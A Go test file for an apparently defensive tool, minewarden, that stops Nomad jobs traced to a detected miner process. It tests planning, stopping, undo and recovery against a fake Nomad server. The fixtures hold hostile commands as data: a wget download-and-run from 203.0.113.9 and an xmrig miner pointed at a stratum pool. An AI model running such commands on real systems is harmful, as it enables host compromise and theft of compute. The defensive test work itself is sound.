package source

import (
	"fmt"
	"maps"
	"net/http"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/minewarden/minewarden"
)

const allocID = "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"

func aJob(id, parent, command string, args ...string) map[string]any {
	return map[string]any{
		"ID": id, "Name": id, "ParentID": parent, "Namespace": "default", "Region": "global", "Type": "batch", "Status": "running", "Stop": false, "Version": 0., "JobModifyIndex": 11.,
		"CreateIndex": 11., "ModifyIndex": 12., "Priority": 50., "Datacenters": []any{"*"}, "Meta": nil,
		"TaskGroups": []any{map[string]any{"Name": "g", "Count": 1., "Tasks": []any{map[string]any{
			"Name": "t", "Driver": "raw_exec", "Config": map[string]any{"command": command, "args": args}, "Env": map[string]any{"DB_URL": "hunter2"},
		}}}},
	}
}

// nomadServer keeps jobs by id, and the index that rises with each change.
func nomadServer(t *testing.T, token string, jobs ...map[string]any) (*product, string) {
	p := &product{token: token, state: map[string]any{}}
	index := 20.
	for _, j := range jobs {
		p.state[j["ID"].(string)] = j
	}
	url := p.start(t, func(w http.ResponseWriter, r *http.Request, body map[string]any) {
		id, isJob := strings.CutPrefix(r.URL.Path, "/v1/job/")
		j, _ := p.state[id].(map[string]any)
		switch {
		case r.URL.Path == "/v1/jobs" && r.Method == http.MethodGet:
			var list []any
			for _, k := range slices.Sorted(maps.Keys(p.state)) {
				list = append(list, p.state[k])
			}
			answer(w, list)
		case r.URL.Path == "/v1/jobs":
			j := body["Job"].(map[string]any)
			old, _ := p.state[j["ID"].(string)].(map[string]any)
			if body["EnforceIndex"] == true && (old == nil && body["JobModifyIndex"] != 0. || old != nil && old["JobModifyIndex"] != body["JobModifyIndex"]) {
				http.Error(w, "Enforcing job modify index: job exists with conflicting job modify index", http.StatusInternalServerError)
				return
			}
			index++
			j["JobModifyIndex"], j["ModifyIndex"], j["Version"] = index, index, old["Version"].(float64)+1
			p.state[j["ID"].(string)] = j
			answer(w, map[string]any{"EvalID": "e", "JobModifyIndex": index})
		case r.URL.Path == "/v1/allocation/"+allocID:
			answer(w, map[string]any{"ID": allocID, "JobID": "evil", "Namespace": "default"})
		case isJob && j == nil:
			http.Error(w, "job not found", http.StatusNotFound)
		case isJob && r.Method == http.MethodGet && r.URL.Query().Get("namespace") == "default":
			answer(w, j)
		case isJob && r.Method == http.MethodDelete && r.URL.Query().Get("purge") == "false":
			index++
			j["Stop"], j["Status"], j["JobModifyIndex"], j["ModifyIndex"], j["Version"] = true, "dead", index, index, j["Version"].(float64)+1
			answer(w, map[string]any{"EvalID": "e", "JobModifyIndex": index})
		default:
			http.Error(w, "no such page", http.StatusNotFound)
		}
	})
	return p, url
}

func lineage(names string, m minewarden.Member) minewarden.Incident {
	m.Key, m.Severity = minewarden.ProcessKey{Boot: "another", PID: 1 << 20, Start: 1}, minewarden.Critical
	return minewarden.Incident{ID: "i1", Members: []minewarden.Member{m}, Findings: []minewarden.IncidentFinding{{
		Rule: "lineage/miner", Severity: minewarden.Critical, Lineage: names, Subject: minewarden.Subject{Type: minewarden.SubjectProcess, ID: "x"},
	}}}
}

var fromNomad = lineage("systemd > nomad > sh > kworker", minewarden.Member{Name: "kworker", Exe: "/var/lib/nomad/alloc/" + allocID + "/t/kworker", Args: []string{"kworker"}})

func stableJob(v map[string]any) map[string]any {
	for _, j := range v {
		for _, k := range nomadMoving {
			if k != "Stop" {
				delete(j.(map[string]any), k)
			}
		}
	}
	return v
}

func TestNomad(t *testing.T) {
	p, url := nomadServer(t, "nomad-secret", aJob("evil", "", "/bin/sh", "-c", "wget http://203.0.113.9/x; ./x"), aJob("web", "", "/usr/bin/web"))
	set := func(c *Config) { c.Nomad = Service{URL: url, TokenFile: token(t, "nomad-secret")} }
	r := newSource(t, t.TempDir(), t.TempDir(), set)
	before := p.copy(t)
	todo, refused := plan(t, r, fromNomad)
	if len(todo) != 1 || len(refused) != 0 || todo[0].Op != OpStopJob || todo[0].Target.Name != "evil" {
		t.Fatalf("todo %v, refused %q", todo, refused)
	}
	if s := fmt.Sprint(todo); strings.Contains(s, "hunter2") || strings.Contains(s, "nomad-secret") || !strings.Contains(s, `+  "Stop": true`) {
		t.Errorf("plan %s", s)
	}
	receipt, err := r.Do(t.Context(), todo[0])
	if err != nil || !receipt.OK {
		t.Fatal(err, receipt)
	}
	if after := p.copy(t); after["evil"].(map[string]any)["Stop"] != true || cmp.Diff(before["web"], after["web"]) != "" {
		t.Errorf("after: %v", after)
	}
	if again, err := r.Do(t.Context(), todo[0]); err != nil || cmp.Diff(receipt, again) != "" {
		t.Errorf("Do again: %v", err)
	}
	for range 2 {
		if err := r.Undo(t.Context(), receipt); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(stableJob(p.copy(t)), stableJob(before)); diff != "" {
			t.Errorf("undone:\n%s", diff)
		}
	}
	if left, _ := plan(t, newSource(t, t.TempDir(), t.TempDir(), func(c *Config) { c.Nomad.URL = url }), fromNomad); len(left) != 0 {
		t.Errorf("planned without a token: %v", left)
	}
}

func TestNomadWithoutAllocation(t *testing.T) {
	_, url := nomadServer(t, "", aJob("evil", "", "/bin/sh", "-c", "wget http://203.0.113.9/x; ./x"), aJob("web", "", "/usr/bin/web"), aJob("mine", "", "./xmrig", "-o", "stratum+tcp://p.example:3333"))
	r := newSource(t, t.TempDir(), t.TempDir(), func(c *Config) { c.Nomad.URL = url })
	todo, _ := plan(t, r, lineage("nomad > sh", minewarden.Member{Name: "sh", Exe: "/usr/bin/dash", Args: []string{"/bin/sh", "-c", "wget http://203.0.113.9/x; ./x"}}))
	var names []string
	for _, a := range todo {
		names = append(names, a.Target.Name)
	}
	if diff := cmp.Diff([]string{"evil", "mine"}, names); diff != "" {
		t.Error(diff)
	}
	if todo, _ := plan(t, r, lineage("sshd > bash", minewarden.Member{Name: "sh", Args: []string{"/bin/sh"}})); len(todo) > 0 {
		t.Errorf("nothing leads to Nomad, but %v", todo)
	}
}

func TestNomadChildAndParent(t *testing.T) {
	p, url := nomadServer(t, "", aJob("evil", "every", "./x"), aJob("every", "", "./x"))
	r := newSource(t, t.TempDir(), t.TempDir(), func(c *Config) { c.Nomad.URL = url })
	todo, _ := plan(t, r, fromNomad)
	if len(todo) != 2 || todo[0].Target.Name != "every" || !todo[0].Reversible || todo[1].Target.Name != "evil" || todo[1].Reversible {
		t.Fatalf("todo %+v", todo)
	}
	receipt, err := r.Do(t.Context(), todo[1])
	if err != nil || !receipt.OK {
		t.Fatal(err, receipt)
	}
	if err := r.Undo(t.Context(), receipt); err == nil || p.copy(t)["evil"].(map[string]any)["Stop"] != true {
		t.Errorf("Undo of a child: %v", err)
	}
}

func TestNomadOthersChanges(t *testing.T) {
	p, url := nomadServer(t, "", aJob("evil", "", "./x"))
	data := t.TempDir()
	set := func(c *Config) { c.Nomad.URL = url }
	r := newSource(t, t.TempDir(), data, set)
	todo, _ := plan(t, r, fromNomad)
	p.mu.Lock()
	p.state["evil"].(map[string]any)["JobModifyIndex"] = 15.
	p.mu.Unlock()
	if receipt, err := r.Do(t.Context(), todo[0]); err != nil || receipt.OK || !strings.Contains(receipt.Result, "plan again") {
		t.Errorf("Do of what changed: %+v, %v", receipt, err)
	}
	todo, _ = plan(t, r, fromNomad)
	p.lose = http.MethodDelete // it is carried out, but nobody hears of it
	receipt, err := r.Do(t.Context(), todo[0])
	if err != nil || !receipt.OK {
		t.Fatalf("the answer was lost: %+v, %v", receipt, err)
	}
	p.mu.Lock()
	p.state["evil"].(map[string]any)["JobModifyIndex"] = 99.
	p.mu.Unlock()
	if err := r.Undo(t.Context(), receipt); err == nil {
		t.Error("a job that somebody changed was registered over")
	}
	cutJournal(t, filepath.Join(data, "journal", receipt.Action.ID+".jsonl"), 2)
	receipts, err := newSource(t, t.TempDir(), data, set).Recover(t.Context())
	i := slices.IndexFunc(receipts, func(x minewarden.Receipt) bool { return x.Action.ID == receipt.Action.ID })
	if err != nil || i < 0 || !receipts[i].OK {
		t.Errorf("Recover = %v, %v", receipts, err)
	}
}
